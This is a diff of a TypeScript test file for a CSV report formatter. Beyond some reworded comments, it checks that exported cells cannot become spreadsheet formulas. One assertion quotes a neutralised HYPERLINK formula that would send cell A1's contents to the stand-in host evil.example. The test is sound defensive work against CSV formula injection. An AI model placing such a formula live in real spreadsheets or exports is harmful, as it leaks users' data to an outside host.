@@ -1,4 +1,4 @@
-// The table: whole, by a kept parser, and harmless in a spreadsheet.
+// The table: complete, read by a third-party parser, and harmless in a spreadsheet.
 import { parse } from 'csv-parse/sync'
 import { describe, expect, test } from 'vitest'
 import { CSV_COLUMNS, formatReportCsv } from '../../../src/cli/report/format-report-csv.ts'
@@ -7,10 +7,10 @@ import { sampleReport, tidyReport } from '../../inspect/report/sample-report.ts'
 
 type Row = Readonly<Record<string, string>>
 
-/** Strict: every row has as many cells as the head, and quotes stand where they may. */
+/** Strict: every row has as many cells as the header, and quotes are valid. */
 const read = (csv: string): Row[] => parse(csv, { columns: true, bom: true, record_delimiter: '\r\n' })
 
-/** What Excel, LibreOffice and Google Sheets take for a formula; numbers are none. */
+/** Text that Excel, LibreOffice and Google Sheets treat as a formula, except for numbers. */
 const isFormula = (text: string) => /^\s*[=+\-@\uFF0B\uFF0D\uFF1D\uFF20]/.test(text) && !/^-?\d+$/.test(text)
 
 test('has the documented columns, a row for each finding, and one for each note', async () => {
@@ -26,7 +26,7 @@ test('has the documented columns, a row for each finding, and one for each note'
   expect(counted).toEqual({
     overdue: reviews.overdue.total,
     due: reviews.due.total,
-    // 1,160 of them are counted only, as are 12,336 articles without file: two notes beside those of the report.
+    // 1,160 of them are only counted, as are 12,336 articles without a file: two notes beside those of the report.
     later: 40,
     never: 2,
     undated: 3,
@@ -97,7 +97,7 @@ describe('no cell becomes a formula', () => {
       const csv = formatReportCsv(await sampleReport({ owners, broken: 300, overdue: 100 }))
       const cells = read(csv).flatMap((row) => Object.values(row))
       expect(cells.filter(isFormula)).toEqual([])
-      // Where a semicolon parts cells, as in many countries, a comma is text and quotes within a cell are, too.
+      // If a semicolon separates cells, as in many countries, commas and quotes within a cell are text.
       const parted = csv.split('\r\n').flatMap((line) => line.split(';'))
       expect(parted.filter((cell) => isFormula(cell.replace(/^"/, '')))).toEqual([])
       expect(cells).toContain(`'=HYPERLINK("https://evil.example/?x="&A1,"Click")`)
